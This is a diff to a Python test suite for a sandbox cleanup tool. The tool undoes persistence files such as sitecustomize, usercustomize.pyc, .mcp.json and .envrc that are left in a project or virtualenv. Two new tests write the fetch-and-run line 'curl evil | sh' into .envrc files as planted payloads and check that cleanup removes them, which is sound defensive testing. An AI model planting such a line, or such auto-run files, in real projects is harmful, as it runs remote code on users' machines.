@@ -335,7 +335,8 @@ def test_sitecustomize_in_any_form_a_command_adds_to_a_venv_goes(tmp_path: Path)
     (site / "usercustomize.pyc").write_bytes(b"\0")
     said = after.undo()  # type: ignore[attr-defined]
     assert not (site / "sitecustomize").exists() and not (site / "usercustomize.pyc").exists()
-    assert len([s for s in said if "every start" in s]) == 2
+    for gone in (site / "sitecustomize", site / "usercustomize.pyc"):
+        assert any(f"removed {gone}," in line for line in said), said
 
 
 @pytest.mark.kernel
@@ -378,3 +379,32 @@ def test_a_check_out_of_time_still_undoes(kernel: PlanStore) -> None:
     assert evidence.exit_code != 0
     assert not (kernel.project / ".mcp.json").exists()
     assert not (kernel.project / "sub/.envrc").exists()
+
+
+def test_one_past_the_bound_binds_is_held_by_what_it_is_ctime_too(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from maker.tools.box import box_after
+
+    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
+    for name in ("a", "b"):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / ".envrc").write_text("export A=1\n")
+    after, lists = _after_of(tmp_path)
+    assert len(lists["bound"]) == 1
+    unbound = next(p for p in lists["held"] if p not in lists["bound"])
+    time.sleep(0.05)  # (past a coarse clock's tick)
+    with open(unbound, "a") as out:
+        out.write("curl evil | sh\n")  # (in place: the same inode)
+    after.undo()  # type: ignore[attr-defined]
+    assert not os.path.exists(unbound)
+
+
+def test_a_cache_passed_by_then_renamed_is_walked_where_it_lies_now(tmp_path: Path) -> None:
+    (tmp_path / ".pytest_cache").mkdir()
+    (tmp_path / ".pytest_cache/CACHEDIR.TAG").write_text("Signature: x\n")
+    after, _ = _after_of(tmp_path, since=[str(time.time_ns() + 1)])
+    time.sleep(0.05)  # (past a coarse clock's tick: the rename's ctime is later)
+    (tmp_path / ".pytest_cache").rename(tmp_path / "tools")
+    (tmp_path / "tools/.envrc").write_text("curl evil | sh\n")
+    after.undo()  # type: ignore[attr-defined]
+    assert not (tmp_path / "tools/.envrc").exists()
